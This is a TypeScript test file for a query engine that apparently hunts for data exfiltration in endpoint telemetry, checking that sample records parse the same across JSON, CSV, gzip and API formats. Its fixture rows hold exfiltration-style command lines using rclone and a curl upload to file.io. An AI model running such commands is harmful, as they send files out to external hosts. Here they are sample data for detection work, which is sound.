import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { gzipSync } from 'node:zlib';
import { compileFor, loadData, runPlan } from '../engine/query.js';
import { discoverFiles } from './index.js';

function dir(files: Record<string, string | Buffer>): string {
  const d = mkdtempSync(path.join(tmpdir(), 'exfilwatch-src-'));
  for (const [name, body] of Object.entries(files)) writeFileSync(path.join(d, name), body);
  return d;
}

async function query(q: string, d: string) {
  const data = await loadData(await discoverFiles([d]));
  const b = await runPlan(compileFor(q, data), data, 0);
  return { b, stats: data.stats };
}

test('streaming-API envelopes route each record to the table its category names', async () => {
  const msg = (table: string, props: object) => ({ time: 't', category: `AdvancedHunting-${table}`, operationName: 'Publish', properties: props });
  const d = dir({
    'PT1H.json': JSON.stringify({ records: [msg('DeviceProcessEvents', { FileName: 'a.exe' }), msg('DeviceNetworkEvents', { RemotePort: 443 })] }) + '\n'
      + JSON.stringify(msg('DeviceProcessEvents', { FileName: 'b.exe' })) + '\n',
  });
  assert.deepEqual((await query('DeviceProcessEvents | project FileName', d)).b.columns[0], ['a.exe', 'b.exe']);
  assert.deepEqual((await query('DeviceNetworkEvents | project RemotePort', d)).b.columns[0], [443]);
});

test('the same rows from JSON lines, a JSON array, API results, CSV and gzip agree', async () => {
  const rows = [
    { Timestamp: '2026-11-01T10:00:00.1234567Z', FileName: 'rclone.exe', ProcessCommandLine: 'rclone copy "a, b" mega:x', ReportId: '9007199254740993' },
    { Timestamp: '2026-11-01T11:00:00Z', FileName: 'curl.exe', ProcessCommandLine: 'curl -F "file=@x"\nhttps://file.io', ReportId: '7' },
  ];
  const csv = 'Timestamp,FileName,ProcessCommandLine,ReportId\n' + rows.map((r) => [r.Timestamp, r.FileName, `"${r.ProcessCommandLine.replace(/"/g, '""')}"`, r.ReportId].join(',')).join('\n') + '\n';
  const jsonl = rows.map((r) => JSON.stringify(r)).join('\n') + '\n';
  const variants = {
    'DeviceProcessEvents.jsonl': jsonl,
    'DeviceProcessEvents.json': JSON.stringify(rows),
    'DeviceProcessEvents-api.json': JSON.stringify({ Schema: [], Results: rows }),
    'DeviceProcessEvents.csv': csv,
    'DeviceProcessEvents.csv.gz': gzipSync(csv),
  };
  const q = 'DeviceProcessEvents | project Timestamp, FileName, ProcessCommandLine, ReportId | sort by Timestamp asc';
  let first: unknown;
  for (const [name, body] of Object.entries(variants)) {
    const { b } = await query(q, dir({ [name]: body }));
    assert.equal(b.length, 2, name);
    assert.equal(b.columns[3]![0], 9007199254740993n, `${name}: ReportId stays exact`);
    first ??= b.columns;
    assert.deepEqual(b.columns, first, name);
  }
});

test('a file of a table we do not know loads with inferred types', async () => {
  const d = dir({ 'Assets.csv': 'Host,Owner,Score,Seen\nWS-1,alice,3,2026-11-01T00:00:00Z\nWS-2,bob,4.5,2026-11-02T00:00:00Z\n' });
  const { b } = await query('Assets | where Score > 3 | project Host, Score, Seen', d);
  assert.deepEqual(b.fields.map((f) => f.type), ['string', 'real', 'datetime']);
  assert.deepEqual(b.columns[0], ['WS-2']);
});
